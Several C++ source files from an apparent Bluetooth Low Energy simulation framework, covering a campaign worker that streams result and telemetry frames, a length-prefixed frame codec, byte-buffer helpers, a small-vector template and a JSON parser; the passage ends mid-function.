    kTaskMetrics = 4,  ///< {"task":id,"metrics":{...}} — merged slice partial
    kArtifact = 5,     ///< {"task":id,"kind":k,"stem":s,"seed":n,"success":b,"content":c}
    kProgress = 6,     ///< {"task":id,"done":n,"total":n}
    kTaskDone = 7,     ///< {"task":id}
    kWorkerDone = 8,   ///< {"worker":id} — clean end of stream
    kError = 9,        ///< {"worker":id,"message":m} — fatal worker error
    kTelemetry = 10,   ///< obs::WorkerTelemetry heartbeat / task-end snapshot
};

/// One decoded message (a tagged union kept flat for simplicity).
struct WireMessage {
    WireType type = WireType::kHello;
    int worker = -1;
    int task = -1;
    std::vector<world::RunResult> results;
    ble::obs::MetricsSnapshot metrics;
    world::TrialArtifact artifact;
    int done = 0;
    int total = 0;
    std::string message;  ///< kError text
    ble::obs::WorkerTelemetry telemetry;  ///< kTelemetry body
};

// Encoders: each returns one fully framed byte string ready for a stream.
[[nodiscard]] std::string encode_hello(int worker);
[[nodiscard]] std::string encode_task_start(int task);
[[nodiscard]] std::string encode_task_results(int task,
                                              const std::vector<world::RunResult>& results);
[[nodiscard]] std::string encode_task_metrics(int task,
                                              const ble::obs::MetricsSnapshot& metrics);
[[nodiscard]] std::string encode_artifact(int task, const world::TrialArtifact& artifact);
[[nodiscard]] std::string encode_progress(int task, int done, int total);
[[nodiscard]] std::string encode_task_done(int task);
[[nodiscard]] std::string encode_worker_done(int worker);
[[nodiscard]] std::string encode_error(int worker, const std::string& message);
[[nodiscard]] std::string encode_telemetry(const ble::obs::WorkerTelemetry& telemetry);

/// Decodes one frame into a WireMessage.  Returns false and sets *error on
/// unknown types or malformed payloads.
[[nodiscard]] bool decode_wire_message(const ble::common::Frame& frame, WireMessage& out,
                                       std::string* error = nullptr);

}  // namespace injectable::campaign
