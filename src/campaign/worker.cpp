#include "campaign/worker.hpp"

#include <atomic>
#include <mutex>

#include <unistd.h>

#include "campaign/wire.hpp"
#include "obs/metrics.hpp"

namespace injectable::campaign {

namespace {

/// Encodes every sink callback as a wire frame.  Frame writes are serialized
/// with a mutex: trial completions arrive concurrently from TrialRunner
/// workers and frames must hit the stream whole.
class StreamResultSink final : public world::ResultSink {
public:
    StreamResultSink(ByteStream& stream, std::mutex& write_mutex, int task,
                     world::ResultChannels channels, int crash_after_trials,
                     std::atomic<int>& trials_completed)
        : stream_(stream),
          write_mutex_(write_mutex),
          task_(task),
          channels_(channels),
          crash_after_trials_(crash_after_trials),
          trials_completed_(trials_completed) {}

    [[nodiscard]] const world::ResultChannels& channels() const noexcept override {
        return channels_;
    }

    void on_artifact(const world::TrialArtifact& artifact) override {
        const std::lock_guard lock(write_mutex_);
        stream_.write(encode_artifact(task_, artifact));
    }

    void on_series_record(const world::ExperimentConfig&, const world::SeriesSlice&,
                          const std::vector<world::RunResult>&,
                          const ble::obs::MetricsSnapshot*) override {
        // Workers never own the series record (the plan forces the channel
        // off); the leader's merger emits it once, over all shards.
    }

    void on_progress(const std::string&, int done, int total) override {
        const int completed = trials_completed_.fetch_add(1) + 1;
        const std::lock_guard lock(write_mutex_);
        stream_.write(encode_progress(task_, done, total));
        if (crash_after_trials_ >= 0 && completed >= crash_after_trials_) {
            // Fault injection: die the ugliest way available — a torn frame
            // (header promising more payload than follows) and a hard exit,
            // so the leader sees a mid-frame EOF with no TaskDone.
            stream_.write(std::string("\x40\x00\x00\x00\x02\x00\x00\x00{\"task\":", 12));
            _exit(2);
        }
    }

private:
    ByteStream& stream_;
    std::mutex& write_mutex_;
    int task_;
    world::ResultChannels channels_;
    int crash_after_trials_;
    std::atomic<int>& trials_completed_;
};

}  // namespace

bool run_worker_tasks(const CampaignPlan& plan, const std::vector<int>& task_ids,
                      ByteStream& stream, const WorkerOptions& options, std::string* error) {
    auto fail = [&](const std::string& message) {
        stream.write(encode_error(options.worker_id, message));
        stream.close_write();
        if (error != nullptr) *error = message;
        return false;
    };

    std::mutex write_mutex;
    std::atomic<int> trials_completed{0};

    world::ResultChannels channels = plan.channels;
    // Shard invariants regardless of what a hand-edited plan says.
    channels.series_record = false;
    channels.wall_clock = false;
    if (options.crash_after_trials >= 0) channels.progress = true;  // crash hook rides progress

    stream.write(encode_hello(options.worker_id));
    for (const int task_id : task_ids) {
        if (task_id < 0 || task_id >= static_cast<int>(plan.tasks.size())) {
            return fail("unknown task id " + std::to_string(task_id));
        }
        const ShardTask& task = plan.tasks[static_cast<std::size_t>(task_id)];
        world::ExperimentConfig config = plan.series[static_cast<std::size_t>(task.series)];
        if (options.jobs > 0) config.jobs = options.jobs;

        ble::obs::MetricsSnapshot partial;
        bool have_partial = false;
        if (channels.metrics) {
            config.on_series_metrics = [&](const ble::obs::MetricsSnapshot& snapshot) {
                partial = snapshot;
                have_partial = true;
            };
        }

        {
            const std::lock_guard lock(write_mutex);
            if (!stream.write(encode_task_start(task.id))) {
                return fail("stream died before task " + std::to_string(task.id));
            }
        }
        StreamResultSink sink(stream, write_mutex, task.id, channels,
                              options.crash_after_trials, trials_completed);
        const std::vector<world::RunResult> results =
            world::run_series(config, sink, world::SeriesSlice{task.first, task.count});

        const std::lock_guard lock(write_mutex);
        bool ok = stream.write(encode_task_results(task.id, results));
        if (ok && have_partial) ok = stream.write(encode_task_metrics(task.id, partial));
        if (ok) ok = stream.write(encode_task_done(task.id));
        if (!ok) return fail("stream died finishing task " + std::to_string(task.id));
    }
    {
        const std::lock_guard lock(write_mutex);
        stream.write(encode_worker_done(options.worker_id));
    }
    stream.close_write();
    return true;
}

}  // namespace injectable::campaign
