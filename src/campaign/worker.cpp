#include "campaign/worker.hpp"

#include <atomic>
#include <mutex>

#include <unistd.h>

#include "campaign/wire.hpp"
#include "common/time.hpp"
#include "obs/metrics.hpp"
#include "obs/telemetry.hpp"

namespace injectable::campaign {

namespace {

/// ByteStream wrapper that counts outbound frames and bytes — the worker's
/// half of the transport accounting.  Each write() call is exactly one wire
/// frame (every encoder returns one framed string), so frames == writes.
class CountingStream final : public ByteStream {
public:
    explicit CountingStream(ByteStream& inner) : inner_(inner) {}

    bool write(std::string_view bytes) override {
        tx_frames_.fetch_add(1, std::memory_order_relaxed);
        tx_bytes_.fetch_add(bytes.size(), std::memory_order_relaxed);
        return inner_.write(bytes);
    }
    ReadStatus read_some(std::string& out, int timeout_ms) override {
        return inner_.read_some(out, timeout_ms);
    }
    void close_write() override { inner_.close_write(); }

    [[nodiscard]] std::uint64_t tx_frames() const noexcept {
        return tx_frames_.load(std::memory_order_relaxed);
    }
    [[nodiscard]] std::uint64_t tx_bytes() const noexcept {
        return tx_bytes_.load(std::memory_order_relaxed);
    }

private:
    ByteStream& inner_;
    std::atomic<std::uint64_t> tx_frames_{0};
    std::atomic<std::uint64_t> tx_bytes_{0};
};

/// Encodes every sink callback as a wire frame.  Frame writes are serialized
/// with a mutex: trial completions arrive concurrently from TrialRunner
/// workers and frames must hit the stream whole.
class StreamResultSink final : public world::ResultSink {
public:
    StreamResultSink(CountingStream& stream, std::mutex& write_mutex, int worker, int task,
                     int task_total, world::ResultChannels channels, int crash_after_trials,
                     int heartbeat_ms, std::atomic<int>& trials_completed)
        : stream_(stream),
          write_mutex_(write_mutex),
          worker_(worker),
          task_(task),
          task_total_(task_total),
          channels_(channels),
          crash_after_trials_(crash_after_trials),
          heartbeat_ms_(heartbeat_ms),
          trials_completed_(trials_completed) {}

    [[nodiscard]] const world::ResultChannels& channels() const noexcept override {
        return channels_;
    }

    void on_artifact(const world::TrialArtifact& artifact) override {
        const std::lock_guard lock(write_mutex_);
        stream_.write(encode_artifact(task_, artifact));
    }

    void on_series_record(const world::ExperimentConfig&, const world::SeriesSlice&,
                          const std::vector<world::RunResult>&,
                          const ble::obs::MetricsSnapshot*) override {
        // Workers never own the series record (the plan forces the channel
        // off); the leader's merger emits it once, over all shards.
    }

    void on_progress(const std::string&, int done, int total) override {
        const int completed = trials_completed_.fetch_add(1) + 1;
        const std::lock_guard lock(write_mutex_);
        stream_.write(encode_progress(task_, done, total));
        maybe_heartbeat_locked(done, total);
        if (crash_after_trials_ >= 0 && completed >= crash_after_trials_) {
            // Fault injection: die the ugliest way available — a torn frame
            // (header promising more payload than follows) and a hard exit,
            // so the leader sees a mid-frame EOF with no TaskDone.
            stream_.write(std::string("\x40\x00\x00\x00\x02\x00\x00\x00{\"task\":", 12));
            _exit(2);
        }
    }

private:
    void maybe_heartbeat_locked(int done, int total) {
        if (heartbeat_ms_ < 0) return;
        const std::int64_t now = ble::telemetry_now_ms();
        if (last_heartbeat_ms_ != 0 && now - last_heartbeat_ms_ < heartbeat_ms_) return;
        last_heartbeat_ms_ = now;
        ble::obs::WorkerTelemetry hb;
        hb.worker = worker_;
        hb.task = task_;
        hb.t_ms = now;
        hb.trials_done = done;
        hb.trials_total = total > 0 ? total : task_total_;
        hb.tx_frames = stream_.tx_frames();
        hb.tx_bytes = stream_.tx_bytes();
        stream_.write(encode_telemetry(hb));
    }

    CountingStream& stream_;
    std::mutex& write_mutex_;  // guards: stream_ writes (frames must not interleave)
    int worker_;
    int task_;
    int task_total_;
    world::ResultChannels channels_;
    int crash_after_trials_;
    int heartbeat_ms_;
    std::int64_t last_heartbeat_ms_ = 0;
    std::atomic<int>& trials_completed_;
};

}  // namespace

bool run_worker_tasks(const CampaignPlan& plan, const std::vector<int>& task_ids,
                      ByteStream& raw_stream, const WorkerOptions& options,
                      std::string* error) {
    CountingStream stream(raw_stream);
    auto fail = [&](const std::string& message) {
        stream.write(encode_error(options.worker_id, message));
        stream.close_write();
        if (error != nullptr) *error = message;
        return false;
    };

    const bool telemetry = options.heartbeat_ms >= 0;
    std::mutex write_mutex;
    std::atomic<int> trials_completed{0};

    world::ResultChannels channels = plan.channels;
    // Shard invariants regardless of what a hand-edited plan says.
    channels.series_record = false;
    channels.wall_clock = false;
    if (options.crash_after_trials >= 0) channels.progress = true;  // crash hook rides progress
    // Heartbeats ride the progress callback too: without it run_series never
    // re-enters the sink between trials.
    if (telemetry) channels.progress = true;

    stream.write(encode_hello(options.worker_id));
    if (telemetry) {
        // Announce: task -1, zero trials — gives the leader a first
        // heartbeat (and clock anchor) before any task output.
        ble::obs::WorkerTelemetry hb;
        hb.worker = options.worker_id;
        hb.t_ms = ble::telemetry_now_ms();
        hb.tx_frames = stream.tx_frames();
        hb.tx_bytes = stream.tx_bytes();
        stream.write(encode_telemetry(hb));
    }
    for (const int task_id : task_ids) {
        if (task_id < 0 || task_id >= static_cast<int>(plan.tasks.size())) {
            return fail("unknown task id " + std::to_string(task_id));
        }
        const ShardTask& task = plan.tasks[static_cast<std::size_t>(task_id)];
        world::ExperimentConfig config = plan.series[static_cast<std::size_t>(task.series)];
        if (options.jobs > 0) config.jobs = options.jobs;

        ble::obs::MetricsSnapshot partial;
        bool have_partial = false;
        if (channels.metrics) {
            config.on_series_metrics = [&](const ble::obs::MetricsSnapshot& snapshot) {
                partial = snapshot;
                have_partial = true;
            };
        }

        {
            const std::lock_guard lock(write_mutex);
            if (!stream.write(encode_task_start(task.id))) {
                return fail("stream died before task " + std::to_string(task.id));
            }
        }
        StreamResultSink sink(stream, write_mutex, options.worker_id, task.id, task.count,
                              channels, options.crash_after_trials, options.heartbeat_ms,
                              trials_completed);
        const std::vector<world::RunResult> results =
            world::run_series(config, sink, world::SeriesSlice{task.first, task.count});

        const std::lock_guard lock(write_mutex);
        bool ok = stream.write(encode_task_results(task.id, results));
        if (ok && have_partial) ok = stream.write(encode_task_metrics(task.id, partial));
        if (ok && telemetry) {
            // Task-end snapshot: the shard's merged MetricsRegistry + prof.*
            // totals in compact form, plus final transport counters.
            ble::obs::WorkerTelemetry hb;
            hb.worker = options.worker_id;
            hb.task = task.id;
            hb.t_ms = ble::telemetry_now_ms();
            hb.trials_done = task.count;
            hb.trials_total = task.count;
            hb.final_snapshot = true;
            if (have_partial) ble::obs::compact_snapshot(partial, hb);
            hb.tx_frames = stream.tx_frames();
            hb.tx_bytes = stream.tx_bytes();
            ok = stream.write(encode_telemetry(hb));
        }
        if (ok) ok = stream.write(encode_task_done(task.id));
        if (!ok) return fail("stream died finishing task " + std::to_string(task.id));
    }
    {
        const std::lock_guard lock(write_mutex);
        stream.write(encode_worker_done(options.worker_id));
    }
    stream.close_write();
    return true;
}

}  // namespace injectable::campaign
