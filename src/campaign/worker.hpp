// Shard worker runtime: executes plan tasks and streams result frames.
//
// A worker is given the full plan plus the task ids it owns, runs each task
// through world::run_series with a ResultSink that encodes everything onto
// the wire, and terminates the stream with WorkerDone.  It holds no result
// state of its own — the leader's ResultCache is the only accumulator — so
// a worker that dies mid-task simply never sends that task's TaskDone and
// the leader re-issues it.
//
// The same entry point serves every transport: in-process threads hand it a
// ConduitStream, socket workers an FdStream over their connection, spawned
// workers (campaign_ctl worker) an FdStream on stdout.
#pragma once

#include <string>
#include <vector>

#include "campaign/plan.hpp"
#include "campaign/transport.hpp"

namespace injectable::campaign {

struct WorkerOptions {
    int worker_id = 0;
    /// Parallel trial jobs inside the worker (0 = config value; the plan pins
    /// configs to jobs=1 so shard-level parallelism is the default).
    int jobs = 0;
    /// Fault injection: after this many completed trials (across tasks), the
    /// worker writes a torn partial frame and calls _exit(2).  -1 disables.
    /// Only meaningful for spawned workers.
    int crash_after_trials = -1;
    /// Telemetry heartbeat period (ms of host wall time): the worker ships a
    /// Telemetry frame at most this often while trials complete, plus one
    /// final compact-snapshot frame per task.  0 = every trial completion
    /// (tests), -1 disables telemetry entirely (the default keeps legacy
    /// streams byte-for-byte unchanged).
    int heartbeat_ms = -1;
};

/// Runs `task_ids` from `plan` and streams frames onto `stream`.  Returns
/// false (with *error) on invalid task ids or a dead stream; the stream's
/// write side is closed before returning either way.
bool run_worker_tasks(const CampaignPlan& plan, const std::vector<int>& task_ids,
                      ByteStream& stream, const WorkerOptions& options = {},
                      std::string* error = nullptr);

}  // namespace injectable::campaign
