#include "common/bytes.hpp"

namespace ble {

std::optional<std::uint8_t> ByteReader::read_u8() noexcept {
    if (remaining() < 1) {
        failed_ = true;
        return std::nullopt;
    }
    return data_[pos_++];
}

std::optional<std::uint16_t> ByteReader::read_u16() noexcept {
    if (remaining() < 2) {
        failed_ = true;
        return std::nullopt;
    }
    const auto lo = data_[pos_];
    const auto hi = data_[pos_ + 1];
    pos_ += 2;
    return static_cast<std::uint16_t>(lo | (hi << 8));
}

std::optional<std::uint32_t> ByteReader::read_u24() noexcept {
    if (remaining() < 3) {
        failed_ = true;
        return std::nullopt;
    }
    std::uint32_t v = data_[pos_] | (static_cast<std::uint32_t>(data_[pos_ + 1]) << 8) |
                      (static_cast<std::uint32_t>(data_[pos_ + 2]) << 16);
    pos_ += 3;
    return v;
}

std::optional<std::uint32_t> ByteReader::read_u32() noexcept {
    if (remaining() < 4) {
        failed_ = true;
        return std::nullopt;
    }
    std::uint32_t v = 0;
    for (int i = 3; i >= 0; --i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
    pos_ += 4;
    return v;
}

std::optional<std::uint64_t> ByteReader::read_u64() noexcept {
    if (remaining() < 8) {
        failed_ = true;
        return std::nullopt;
    }
    std::uint64_t v = 0;
    for (int i = 7; i >= 0; --i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
    pos_ += 8;
    return v;
}

std::optional<Bytes> ByteReader::read_bytes(std::size_t n) noexcept {
    if (remaining() < n) {
        failed_ = true;
        return std::nullopt;
    }
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
              data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
    pos_ += n;
    return out;
}

Bytes ByteReader::read_rest() noexcept {
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_), data_.end());
    pos_ = data_.size();
    return out;
}

bool ByteReader::skip(std::size_t n) noexcept {
    if (remaining() < n) {
        failed_ = true;
        return false;
    }
    pos_ += n;
    return true;
}

void ByteWriter::write_u8(std::uint8_t v) { out_.push_back(v); }

void ByteWriter::write_u16(std::uint16_t v) {
    out_.push_back(static_cast<std::uint8_t>(v & 0xFF));
    out_.push_back(static_cast<std::uint8_t>(v >> 8));
}

void ByteWriter::write_u24(std::uint32_t v) {
    out_.push_back(static_cast<std::uint8_t>(v & 0xFF));
    out_.push_back(static_cast<std::uint8_t>((v >> 8) & 0xFF));
    out_.push_back(static_cast<std::uint8_t>((v >> 16) & 0xFF));
}

void ByteWriter::write_u32(std::uint32_t v) {
    for (int i = 0; i < 4; ++i) out_.push_back(static_cast<std::uint8_t>((v >> (8 * i)) & 0xFF));
}

void ByteWriter::write_u64(std::uint64_t v) {
    for (int i = 0; i < 8; ++i) out_.push_back(static_cast<std::uint8_t>((v >> (8 * i)) & 0xFF));
}

void ByteWriter::write_bytes(BytesView data) { out_.insert(out_.end(), data.begin(), data.end()); }

}  // namespace ble
