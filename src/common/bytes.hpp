// Byte-buffer primitives shared by every layer of the stack.
//
// BLE is a little-endian protocol: all multi-byte fields in PDUs are
// transmitted least-significant-octet first.  ByteReader/ByteWriter therefore
// only expose little-endian accessors.
#pragma once

#include <cstdint>
#include <cstddef>
#include <optional>
#include <span>
#include <string>
#include <vector>

namespace ble {

using Bytes = std::vector<std::uint8_t>;
using BytesView = std::span<const std::uint8_t>;

/// Sequential little-endian decoder over a borrowed buffer.
///
/// All `read_*` accessors return std::nullopt once the buffer is exhausted
/// instead of throwing; parsing code checks the result (or `ok()` at the end)
/// so malformed over-the-air frames can never crash the stack.
class ByteReader {
public:
    explicit ByteReader(BytesView data) noexcept : data_(data) {}

    [[nodiscard]] std::size_t remaining() const noexcept { return data_.size() - pos_; }
    [[nodiscard]] std::size_t position() const noexcept { return pos_; }
    /// True while no read has run past the end of the buffer.
    [[nodiscard]] bool ok() const noexcept { return !failed_; }

    std::optional<std::uint8_t> read_u8() noexcept;
    std::optional<std::uint16_t> read_u16() noexcept;
    /// 24-bit little-endian value (e.g. CRCInit in CONNECT_REQ).
    std::optional<std::uint32_t> read_u24() noexcept;
    std::optional<std::uint32_t> read_u32() noexcept;
    std::optional<std::uint64_t> read_u64() noexcept;
    /// Copies `n` bytes; nullopt if fewer remain.
    std::optional<Bytes> read_bytes(std::size_t n) noexcept;
    /// Everything left in the buffer (possibly empty).
    Bytes read_rest() noexcept;
    bool skip(std::size_t n) noexcept;

private:
    BytesView data_;
    std::size_t pos_ = 0;
    bool failed_ = false;
};

/// Sequential little-endian encoder producing an owned buffer.
class ByteWriter {
public:
    ByteWriter() = default;
    explicit ByteWriter(std::size_t reserve) { out_.reserve(reserve); }

    void write_u8(std::uint8_t v);
    void write_u16(std::uint16_t v);
    void write_u24(std::uint32_t v);
    void write_u32(std::uint32_t v);
    void write_u64(std::uint64_t v);
    void write_bytes(BytesView data);

    [[nodiscard]] const Bytes& bytes() const noexcept { return out_; }
    [[nodiscard]] Bytes take() noexcept { return std::move(out_); }
    [[nodiscard]] std::size_t size() const noexcept { return out_.size(); }

private:
    Bytes out_;
};

}  // namespace ble
