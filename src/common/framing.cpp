#include "common/framing.hpp"

#include <cstring>

namespace ble::common {

namespace {

void append_u32le(std::string& out, std::uint32_t value) {
    out.push_back(static_cast<char>(value & 0xffu));
    out.push_back(static_cast<char>((value >> 8) & 0xffu));
    out.push_back(static_cast<char>((value >> 16) & 0xffu));
    out.push_back(static_cast<char>((value >> 24) & 0xffu));
}

std::uint32_t read_u32le(const char* p) {
    const auto b = [&](int i) { return static_cast<std::uint32_t>(static_cast<unsigned char>(p[i])); };
    return b(0) | (b(1) << 8) | (b(2) << 16) | (b(3) << 24);
}

}  // namespace

void append_frame(std::string& out, std::uint32_t type, std::string_view payload) {
    append_u32le(out, static_cast<std::uint32_t>(payload.size()));
    append_u32le(out, type);
    out.append(payload);
}

std::string encode_frame(std::uint32_t type, std::string_view payload) {
    std::string out;
    out.reserve(8 + payload.size());
    append_frame(out, type, payload);
    return out;
}

void FrameDecoder::feed(std::string_view bytes) {
    if (!error_.empty()) return;
    buffer_.append(bytes);
}

std::optional<Frame> FrameDecoder::next() {
    if (!error_.empty()) return std::nullopt;
    if (buffer_.size() < 8) return std::nullopt;
    const std::uint32_t payload_len = read_u32le(buffer_.data());
    if (payload_len > kMaxFramePayload) {
        error_ = "frame payload length " + std::to_string(payload_len) + " exceeds limit " +
                 std::to_string(kMaxFramePayload);
        return std::nullopt;
    }
    const std::size_t total = 8 + static_cast<std::size_t>(payload_len);
    if (buffer_.size() < total) return std::nullopt;
    Frame frame;
    frame.type = read_u32le(buffer_.data() + 4);
    frame.payload.assign(buffer_, 8, payload_len);
    buffer_.erase(0, total);
    return frame;
}

}  // namespace ble::common
