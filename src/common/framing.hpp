// Length-prefixed frame codec for the campaign wire protocol.
//
// Wire format (little-endian, fixed 8-byte header):
//
//     u32 payload_len | u32 type | payload bytes
//
// The codec is transport-agnostic: encode_frame() produces bytes suitable for
// any byte stream (pipe, UDS, TCP, in-memory conduit), and FrameDecoder is an
// incremental push parser — feed() arbitrary chunk boundaries, pop complete
// frames with next().  A frame cut short by a dropped connection is simply
// never surfaced, which is exactly the property the campaign result cache
// relies on: partial results are discarded wholesale, never half-applied.
#pragma once

#include <cstdint>
#include <deque>
#include <optional>
#include <string>
#include <string_view>

namespace ble::common {

struct Frame {
    std::uint32_t type = 0;
    std::string payload;

    friend bool operator==(const Frame&, const Frame&) = default;
};

/// Upper bound on a single frame payload (64 MiB).  A decoder seeing a larger
/// length declares a protocol error instead of attempting the allocation —
/// corrupt or misaligned streams fail fast.
inline constexpr std::uint32_t kMaxFramePayload = 64u * 1024u * 1024u;

/// Appends the encoded frame to `out`.
void append_frame(std::string& out, std::uint32_t type, std::string_view payload);

/// Encodes one frame (header + payload) as a fresh byte string.
[[nodiscard]] std::string encode_frame(std::uint32_t type, std::string_view payload);

/// Incremental frame parser.  Not thread-safe; one decoder per stream.
class FrameDecoder {
public:
    /// Appends raw bytes from the transport (any chunking).
    void feed(std::string_view bytes);

    /// Pops the next complete frame, or nullopt when none is buffered.
    /// Returns nullopt forever once error() is set.
    [[nodiscard]] std::optional<Frame> next();

    /// Non-empty once the stream is unrecoverably malformed (oversized
    /// length prefix).
    [[nodiscard]] const std::string& error() const noexcept { return error_; }

    /// True when buffered bytes form a frame prefix but not a whole frame —
    /// i.e. the peer vanished mid-frame if no more bytes ever arrive.
    [[nodiscard]] bool mid_frame() const noexcept { return !buffer_.empty(); }

private:
    std::string buffer_;
    std::string error_;
};

}  // namespace ble::common
