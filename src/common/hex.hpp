// Hex encoding helpers used by logs, tests and the dongle wire protocol.
#pragma once

#include <optional>
#include <string>

#include "common/bytes.hpp"

namespace ble {

/// "0a1b2c" — lowercase, no separators.
std::string to_hex(BytesView data);

/// Accepts upper/lower case; rejects odd length or non-hex characters.
std::optional<Bytes> from_hex(const std::string& hex);

}  // namespace ble
