// Small-vector with inline capacity: the first N elements live inside the
// object, so containers-of-containers (the medium's 40 per-channel interest
// lists) cost zero heap traffic until a channel actually gets crowded.  A
// freshly built world churns hundreds of tiny first-push allocations with
// std::vector; with InlineVec the common sparse case never touches the
// allocator, and a spilled list keeps its heap block until destruction.
//
// Restricted to trivially copyable element types (the medium stores raw
// pointers) so growth is a memcpy and erase is a memmove — no per-element
// construction bookkeeping.
#pragma once

#include <cstddef>
#include <cstring>
#include <new>
#include <type_traits>

namespace ble {

template <typename T, std::size_t N>
class InlineVec {
    static_assert(std::is_trivially_copyable_v<T>,
                  "InlineVec is a trivially-copyable-only small vector");
    static_assert(N > 0, "inline capacity must be at least one element");

public:
    using value_type = T;
    using iterator = T*;
    using const_iterator = const T*;

    InlineVec() noexcept : data_(inline_storage()) {}
    ~InlineVec() {
        if (data_ != inline_storage()) ::operator delete(data_);
    }
    InlineVec(const InlineVec&) = delete;
    InlineVec& operator=(const InlineVec&) = delete;

    [[nodiscard]] std::size_t size() const noexcept { return size_; }
    [[nodiscard]] bool empty() const noexcept { return size_ == 0; }
    [[nodiscard]] std::size_t capacity() const noexcept { return cap_; }
    /// True while the elements still live inside the object (no heap block).
    [[nodiscard]] bool inlined() const noexcept { return data_ == inline_storage(); }

    [[nodiscard]] T* begin() noexcept { return data_; }
    [[nodiscard]] T* end() noexcept { return data_ + size_; }
    [[nodiscard]] const T* begin() const noexcept { return data_; }
    [[nodiscard]] const T* end() const noexcept { return data_ + size_; }

    [[nodiscard]] T& operator[](std::size_t i) noexcept { return data_[i]; }
    [[nodiscard]] const T& operator[](std::size_t i) const noexcept { return data_[i]; }
    [[nodiscard]] T& back() noexcept { return data_[size_ - 1]; }
    [[nodiscard]] const T& back() const noexcept { return data_[size_ - 1]; }

    void push_back(T value) {
        if (size_ == cap_) grow();
        data_[size_++] = value;
    }

    void pop_back() noexcept { --size_; }

    /// Keeps the current capacity (inline or spilled) for reuse.
    void clear() noexcept { size_ = 0; }

    /// Ordered insert before `pos` (which is invalidated by growth, so the
    /// offset is taken first).
    void insert(const T* pos, T value) {
        const std::size_t index = static_cast<std::size_t>(pos - data_);
        if (size_ == cap_) grow();
        std::memmove(data_ + index + 1, data_ + index, (size_ - index) * sizeof(T));
        data_[index] = value;
        ++size_;
    }

    /// Removes the first element equal to `value`; no-op when absent.
    void erase_value(const T& value) noexcept {
        for (std::size_t i = 0; i < size_; ++i) {
            if (data_[i] == value) {
                std::memmove(data_ + i, data_ + i + 1, (size_ - i - 1) * sizeof(T));
                --size_;
                return;
            }
        }
    }

private:
    [[nodiscard]] T* inline_storage() noexcept { return reinterpret_cast<T*>(buf_); }
    [[nodiscard]] const T* inline_storage() const noexcept {
        return reinterpret_cast<const T*>(buf_);
    }

    void grow() {
        const std::size_t new_cap = cap_ * 2;
        T* block = static_cast<T*>(::operator new(new_cap * sizeof(T)));
        std::memcpy(block, data_, size_ * sizeof(T));
        if (data_ != inline_storage()) ::operator delete(data_);
        data_ = block;
        cap_ = new_cap;
    }

    T* data_;
    std::size_t size_ = 0;
    std::size_t cap_ = N;
    alignas(T) unsigned char buf_[N * sizeof(T)];
};

}  // namespace ble
