#include "common/json.hpp"

#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace ble::json {

namespace {

/// Mirrors ble::obs::append_json_escaped (sinks.cpp) — common/ sits below
/// obs/ in the dependency order, so the 20 lines are duplicated rather than
/// inverting the layering.  Keep the two in sync: every byte outside
/// printable ASCII becomes \u00xx (Latin-1 read), which always round-trips.
void append_escaped(std::string& out, std::string_view s) {
    for (const char c : s) {
        switch (c) {
            case '"': out += "\\\""; break;
            case '\\': out += "\\\\"; break;
            case '\n': out += "\\n"; break;
            case '\t': out += "\\t"; break;
            case '\r': out += "\\r"; break;
            case '\b': out += "\\b"; break;
            case '\f': out += "\\f"; break;
            default: {
                const auto u = static_cast<unsigned char>(c);
                if (u < 0x20 || u >= 0x7f) {
                    char buf[8];
                    std::snprintf(buf, sizeof(buf), "\\u%04x", u);
                    out += buf;
                } else {
                    out += c;
                }
            }
        }
    }
}

struct Parser {
    const char* begin;
    const char* p;
    const char* end;
    std::string error;

    [[nodiscard]] std::size_t pos() const noexcept {
        return static_cast<std::size_t>(p - begin);
    }
    void skip_ws() {
        while (p < end && (*p == ' ' || *p == '\t' || *p == '\r' || *p == '\n')) ++p;
    }
    bool fail(std::string message) {
        if (error.empty()) error = std::move(message);
        return false;
    }

    bool parse_string(std::string& out) {
        if (p >= end || *p != '"') return fail("expected string");
        ++p;
        out.clear();
        while (p < end && *p != '"') {
            char c = *p++;
            if (c != '\\') {
                out += c;
                continue;
            }
            if (p >= end) return fail("dangling escape");
            const char esc = *p++;
            switch (esc) {
                case '"': out += '"'; break;
                case '\\': out += '\\'; break;
                case '/': out += '/'; break;
                case 'n': out += '\n'; break;
                case 't': out += '\t'; break;
                case 'r': out += '\r'; break;
                case 'b': out += '\b'; break;
                case 'f': out += '\f'; break;
                case 'u': {
                    if (end - p < 4) return fail("short \\u escape");
                    unsigned code = 0;
                    for (int i = 0; i < 4; ++i) {
                        const char h = *p++;
                        code <<= 4;
                        if (h >= '0' && h <= '9') {
                            code |= static_cast<unsigned>(h - '0');
                        } else if (h >= 'a' && h <= 'f') {
                            code |= static_cast<unsigned>(h - 'a' + 10);
                        } else if (h >= 'A' && h <= 'F') {
                            code |= static_cast<unsigned>(h - 'A' + 10);
                        } else {
                            return fail("bad \\u escape");
                        }
                    }
                    // Our writers only emit \u00xx (Latin-1 bytes); decode
                    // larger code points as UTF-8 for robustness.
                    if (code < 0x100) {
                        out += static_cast<char>(code);
                    } else if (code < 0x800) {
                        out += static_cast<char>(0xC0 | (code >> 6));
                        out += static_cast<char>(0x80 | (code & 0x3F));
                    } else {
                        out += static_cast<char>(0xE0 | (code >> 12));
                        out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
                        out += static_cast<char>(0x80 | (code & 0x3F));
                    }
                    break;
                }
                default: return fail("unknown escape");
            }
        }
        if (p >= end) return fail("unterminated string");
        ++p;
        return true;
    }

    bool parse_value(Value& out, int depth) {
        if (depth > 64) return fail("nesting too deep");
        skip_ws();
        if (p >= end) return fail("truncated value");
        switch (*p) {
            case '"':
                out.kind = Value::Kind::kString;
                return parse_string(out.str);
            case '{': {
                out.kind = Value::Kind::kObject;
                ++p;
                skip_ws();
                if (p < end && *p == '}') {
                    ++p;
                    return true;
                }
                for (;;) {
                    skip_ws();
                    std::string key;
                    if (!parse_string(key)) return false;
                    skip_ws();
                    if (p >= end || *p != ':') return fail("expected ':'");
                    ++p;
                    Value member;
                    if (!parse_value(member, depth + 1)) return false;
                    out.object.emplace_back(std::move(key), std::move(member));
                    skip_ws();
                    if (p < end && *p == ',') {
                        ++p;
                        continue;
                    }
                    if (p < end && *p == '}') {
                        ++p;
                        return true;
                    }
                    return fail("expected ',' or '}'");
                }
            }
            case '[': {
                out.kind = Value::Kind::kArray;
                ++p;
                skip_ws();
